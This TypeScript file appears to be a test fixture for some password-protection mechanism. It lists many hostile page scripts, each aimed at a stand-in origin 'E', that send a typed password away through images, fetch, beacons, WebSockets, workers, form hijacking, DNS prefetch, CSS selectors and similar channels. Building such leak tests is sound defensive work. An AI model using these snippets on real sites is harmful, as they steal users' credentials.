/** A page of the credential's own site that tries to carry the password away; `E` stands for the other site's origin. */
export interface HostilePage {
  readonly name: string
  /** Runs on the sign-in page, where `pw()` is what stands in the password field. */
  readonly atForm?: string
  /** Runs on the page behind it, where `P` is the password, as the site's server knows it. */
  readonly behind?: string
  /** Markup of the page behind it; `%P` is the password. */
  readonly shows?: string
  /** It only shows it: nothing is sent anywhere. */
  readonly shownOnly?: true
  /** The page's own /worker.js. */
  readonly script?: string
}

const onInput = (source: string) =>
  `document.querySelector('[type=password]').addEventListener('input', () => { ${source} })`
/** Runs once an ordinary request has made the other site one that is talked to. */
const onceKnown = (source: string) => `fetch('E/known', { mode: 'no-cors' }).then(async () => { ${source} })`
const onSubmit = (source: string) => `document.querySelector('form').addEventListener('submit', () => { ${source} })`

/**
 * Whoever has a WebSocket to the other site is given every value as it is typed. The page has not loaded before the
 * socket is open: `opened` is called by who opens it, `tell` hands on the value.
 */
const beforeTheForm = (opening: string) =>
  `new Image().src = '/until-opened'; const opened = () => fetch('/opened'); let tell; ${opening}; ${onInput('tell(pw())')}`
const SOCKET = "new WebSocket('E/'.replace('http', 'ws'))"

/** A socket that is open already when the secret is typed: no connection has to be made for it any more. */
export const OPEN_SOCKETS: readonly HostilePage[] = [
  {
    name: 'a WebSocket of the page that is open already',
    atForm: beforeTheForm(`const s = ${SOCKET}; s.onopen = opened; tell = value => s.send(value)`),
  },
  {
    name: 'a WebSocket of a frame that is open already',
    atForm: beforeTheForm(
      "const i = document.createElement('iframe'); i.src = 'E/socket'; onmessage = opened; tell = value => i.contentWindow.postMessage(value, '*'); document.body.append(i)",
    ),
  },
  {
    name: 'a WebSocket of a worker that is open already',
    atForm: beforeTheForm(
      "const w = new Worker('/worker.js'); w.onmessage = opened; tell = value => w.postMessage(value)",
    ),
    script: `const s = ${SOCKET}; s.onopen = () => postMessage(1); onmessage = e => s.send(e.data)`,
  },
  {
    name: 'a WebSocket of a shared worker that is open already',
    atForm: beforeTheForm(
      "const w = new SharedWorker('/worker.js').port; w.onmessage = opened; tell = value => w.postMessage(value)",
    ),
    script: `const s = ${SOCKET}; const up = new Promise(done => { s.onopen = done });
      onconnect = e => { const [port] = e.ports; up.then(() => port.postMessage(1)); port.onmessage = m => s.send(m.data) }`,
  },
]

export const HOSTILE_PAGES: readonly HostilePage[] = [
  ...OPEN_SOCKETS,
  { name: 'a picture’s address while it is typed', atForm: onInput("new Image().src = 'E/?p=' + pw()") },
  {
    name: 'a request while it is typed',
    atForm: onInput("fetch('E/', { method: 'POST', mode: 'no-cors', body: pw() })"),
  },
  { name: 'a beacon as the form is sent', atForm: onSubmit("navigator.sendBeacon('E/', pw())") },
  {
    name: 'a request that outlives the page',
    atForm: onSubmit("fetch('E/?' + pw(), { keepalive: true, mode: 'no-cors' })"),
  },
  {
    name: 'a form turned to another site as it is sent',
    atForm: onSubmit("document.querySelector('form').action = 'E/in'"),
  },
  { name: 'a navigation while it is typed', atForm: onInput("location.href = 'E/?p=' + pw()") },
  {
    name: 'a hidden form to another site',
    atForm: onInput(
      "const f = document.createElement('form'); f.method = 'post'; f.action = 'E/'; f.innerHTML = '<input name=p>'; f.firstChild.value = pw(); document.body.append(f); f.submit()",
    ),
  },
  {
    name: 'a WebSocket while it is typed',
    atForm: onInput("const s = new WebSocket('E/'.replace('http', 'ws')); s.onopen = () => s.send(pw())"),
  },
  { name: 'a popup while it is typed', atForm: onInput("window.open('E/?p=' + pw())") },
  {
    name: 'a worker while it is typed',
    atForm: onInput(
      'new Worker(URL.createObjectURL(new Blob([\'fetch("E/?p=\' + encodeURIComponent(pw()) + \'", { mode: "no-cors" })\'])))',
    ),
  },
  {
    name: 'a style sheet while it is typed',
    atForm: onInput(
      "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'E/?p=' + pw(); document.head.append(l)",
    ),
  },
  {
    name: 'a frame while it is typed',
    atForm: onInput("const i = document.createElement('iframe'); i.src = 'E/?p=' + pw(); document.body.append(i)"),
  },
  {
    name: 'a message to a frame',
    shows: '<iframe src="E/frame"></iframe>',
    behind: "setTimeout(() => document.querySelector('iframe').contentWindow.postMessage(P, '*'), 400)",
  },
  { name: 'a picture’s address behind it', behind: "new Image().src = 'E/?p=' + encodeURIComponent(P)" },
  { name: 'base64 in an address', behind: "fetch('E/?' + btoa('me:' + P), { mode: 'no-cors' })" },
  {
    name: 'hex in a body',
    behind:
      "fetch('E/', { method: 'POST', mode: 'no-cors', body: [...P].map(c => c.charCodeAt(0).toString(16)).join('') })",
  },
  { name: 'reversed in a header', behind: "fetch('E/', { headers: { 'x-p': [...P].reverse().join('') } })" },
  { name: 'a body that is a blob', behind: "fetch('E/', { method: 'POST', mode: 'no-cors', body: new Blob([P]) })" },
  { name: 'a beacon that is a blob', behind: "navigator.sendBeacon('E/', new Blob([P]))" },
  {
    name: 'form data',
    behind: "const d = new FormData(); d.append('p', P); fetch('E/', { method: 'POST', mode: 'no-cors', body: d })",
  },
  {
    name: 'pieces of eight',
    behind: "for (let i = 0; i + 8 <= P.length; i += 8) fetch('E/?' + P.slice(i, i + 8), { mode: 'no-cors' })",
  },
  { name: 'a navigation behind it', behind: "location.href = 'E/?p=' + P" },
  { name: 'a WebSocket’s address behind it', behind: "new WebSocket('E/?p='.replace('http', 'ws') + P)" },
  {
    name: 'a worker’s request behind it',
    behind: 'new Worker(URL.createObjectURL(new Blob([\'fetch("E/?p=\' + P + \'", { mode: "no-cors" })\'])))',
  },
  {
    name: 'a frame of one’s own that asks',
    behind:
      "const i = document.createElement('iframe'); i.srcdoc = '<img src=\"E/?p=' + P + '\">'; document.body.append(i)",
  },
  { name: 'a popup behind it', behind: "window.open('E/?p=' + P)" },
  {
    name: 'the referrer',
    behind:
      "history.replaceState(null, '', '/home?p=' + P); fetch('E/', { mode: 'no-cors', referrerPolicy: 'unsafe-url' })",
  },
  {
    name: 'a page that shows it',
    shownOnly: true,
    shows: '<p>Your password is %P</p><input value="%P"><a href="/x?p=%P">link %P</a>',
  },
  { name: 'a title', shownOnly: true, behind: 'document.title = P' },
  { name: 'an address', shownOnly: true, behind: "history.replaceState(null, '', '/home?p=' + P)" },
  { name: 'a path', shownOnly: true, behind: "history.replaceState(null, '', '/home/' + P)" },
  { name: 'an alert', shownOnly: true, behind: 'document.body.onclick = () => alert(P)' },
  { name: 'base64 on the page', shownOnly: true, behind: 'document.body.append(btoa(P))' },
  {
    name: 'split over elements',
    shownOnly: true,
    behind:
      "for (const c of P) { const b = document.createElement('b'); b.textContent = c; document.querySelector('h1').append(b) }",
  },
  {
    name: 'a WebSocket to a site that is talked to',
    behind: onceKnown("const s = new WebSocket('E/'.replace('http', 'ws')); s.onopen = () => s.send(P)"),
  },
  {
    name: 'a WebSocket from a worker, to a site that is talked to',
    behind: onceKnown(
      'new Worker(URL.createObjectURL(new Blob([\'const s = new WebSocket("E/".replace("http", "ws")); s.onopen = () => s.send("\' + P + \'")\'])))',
    ),
  },
  {
    name: 'a shared worker that asks a site that is talked to',
    behind: onceKnown("new SharedWorker('/worker.js').port.postMessage(P)"),
    script: "onconnect = e => { e.ports[0].onmessage = m => fetch('E/?p=' + m.data, { mode: 'no-cors' }) }",
  },
  {
    name: 'a service worker that asks a site that is talked to',
    behind: onceKnown(
      "await navigator.serviceWorker.register('/worker.js'); (await navigator.serviceWorker.ready).active.postMessage(P)",
    ),
    script: "onmessage = m => fetch('E/', { method: 'POST', mode: 'no-cors', body: m.data })",
  },
  {
    name: 'a prefetch of a site that is talked to',
    behind: onceKnown(
      "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'E/?p=' + P; document.head.append(l)",
    ),
  },
  {
    name: 'an icon from a site that is talked to',
    behind: onceKnown(
      "const l = document.createElement('link'); l.rel = 'icon'; l.href = 'E/?p=' + P; document.head.append(l)",
    ),
  },
  {
    name: 'host names to connect to beforehand',
    behind:
      "for (const rel of ['preconnect', 'dns-prefetch']) { const l = document.createElement('link'); l.rel = rel; l.href = 'E/'.replace('localhost', [...P].map(c => c.charCodeAt(0).toString(16)).join('') + '.localhost'); document.head.append(l) } fetch('E/'.replace('localhost', [...P].map(c => c.charCodeAt(0).toString(16)).join('') + '.localhost'), { mode: 'no-cors' })",
  },
  {
    name: 'selectors of a style sheet, a letter at a time',
    atForm: onInput(
      "const f = document.querySelector('[type=password]'); f.setAttribute('value', pw()); const s = document.createElement('style'); s.textContent = 'input[value^=\"' + pw() + '\"] { background: url(E/?p=' + pw() + ') }'; document.head.append(s)",
    ),
  },
  {
    name: 'a base that turns the form to another site',
    atForm: onInput("const b = document.createElement('base'); b.href = 'E/'; document.head.prepend(b)"),
  },
  {
    name: 'a button that turns the form to another site as it is sent',
    atForm:
      "document.querySelector('button').addEventListener('click', () => { document.querySelector('button').formAction = 'E/in' })",
  },
  {
    name: 'the name of the window',
    behind: "window.name = P; setTimeout(() => { location.href = 'E/named' }, 300)",
  },
  {
    name: 'a page that sends on by itself',
    behind:
      "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=E/?p=' + P; document.head.append(m)",
  },
  {
    name: 'the address that a picture is asked for from',
    behind:
      "history.pushState(null, '', '/home/' + P); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = 'E/'; document.body.append(i)",
  },
  {
    name: 'a stream of events',
    behind: "new EventSource('E/?p=' + P)",
  },
  {
    name: 'a closed shadow root that shows it',
    shownOnly: true,
    behind:
      "const d = document.createElement('div'); d.attachShadow({ mode: 'closed' }).innerHTML = '<p style=\"font:40px monospace\">' + P + '</p>'; document.body.append(d)",
  },
]
